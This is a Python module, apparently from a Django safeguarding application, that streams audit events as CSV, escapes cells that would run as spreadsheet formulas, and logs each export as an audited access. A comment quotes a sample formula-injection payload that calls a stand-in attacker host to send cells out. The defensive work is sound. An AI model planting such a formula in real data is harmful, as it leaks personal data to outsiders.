"""The audit trail as CSV: streamed row by row, safe to open in a spreadsheet, and itself audited."""

import csv
import datetime
import json

from django.utils import timezone

from safeguarding.core import audit, permissions
from safeguarding.organisations.models.people import Role

from .queries import LONDON

COLUMNS = (
    "sequence",
    "occurred_at",
    "actor_kind",
    "actor_label",
    "organisation",
    "role",
    "area",
    "verb",
    "target_type",
    "target_id",
    "target_label",
    "data",
    "request_id",
    "hash",
)

# What each column is read from; values_list keeps memory flat (no model instances, no joins cached).
_FIELDS = (
    "sequence",
    "occurred_at",
    "actor_kind",
    "actor_label",
    "organisation__name",
    "role",
    "area__name",
    "verb",
    "target_type",
    "target_id",
    "target_label",
    "data",
    "request_id",
    "hash",
)

CHUNK_SIZE = 2000

# A spreadsheet treats a cell starting with one of these as a formula (or, for tab and carriage
# return, strips them and then does). Actor labels, record names and data are typed by people or
# client systems, so a value like `=HYPERLINK("http://evil.example/?"&A1)` would run in the
# administrator's spreadsheet and could send other cells away. A leading single quote makes the
# spreadsheet show the text as text (OWASP's advice on CSV injection); the value stays readable.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


def _cells(row):
    values = dict(zip(_FIELDS, row, strict=True))
    values["occurred_at"] = values["occurred_at"].astimezone(datetime.UTC).isoformat()
    values["data"] = json.dumps(values["data"], sort_keys=True, ensure_ascii=False)
    return [neutralise_formula("" if values[field] is None else values[field]) for field in _FIELDS]


class _Line:
    """A file-like object whose write() hands back the line instead of storing it."""

    def write(self, line):
        return line


def csv_lines(events):
    """The header, then one CSV line per event, read from the database CHUNK_SIZE rows at a time."""
    writer = csv.writer(_Line())
    yield writer.writerow(COLUMNS)
    for row in events.values_list(*_FIELDS).iterator(chunk_size=CHUNK_SIZE):
        yield writer.writerow(_cells(row))


def filename(now=None):
    now = (now or timezone.now()).astimezone(LONDON)
    return f"audit-events-{now:%Y%m%d-%H%M}.csv"


def _acting_membership(user, area):
    """The membership the person searches with: national administrator, else area administrator."""
    held = permissions.memberships(user)
    national = [m for m in held if m.area_id is None and m.role == Role.NATIONAL_ADMINISTRATOR]
    if national:
        return national[0]
    administered = [m for m in held if m.role == Role.AREA_ADMINISTRATOR]
    in_area = [m for m in administered if area is not None and m.area_id == area.pk]
    return (in_area or administered or [None])[0]


def record_export(user, filters, area=None):
    """Writes `audit.exported` before the file is sent: the export reveals who did what, which is
    personal data about staff, so the export is itself an access to be accounted for.

    The event carries the filters (the row count is unknown until the stream ends). Its area is the
    one the export was narrowed to, or the administrator's only area, so that the area's
    administrators see their area's exports; an export across areas is left without one and only
    national administrators see it.
    """
    membership = _acting_membership(user, area)
    if area is None and membership is not None and membership.role == Role.AREA_ADMINISTRATOR:
        administered = permissions.area_ids_with_role(user, {Role.AREA_ADMINISTRATOR})
        if len(administered) == 1:
            area = membership.area
    actor = audit.Actor.person(
        user,
        organisation=membership.organisation if membership else None,
        role=membership.role if membership else "",
    )
    return audit.record(actor, "audit.exported", data={"filters": filters}, area=area)
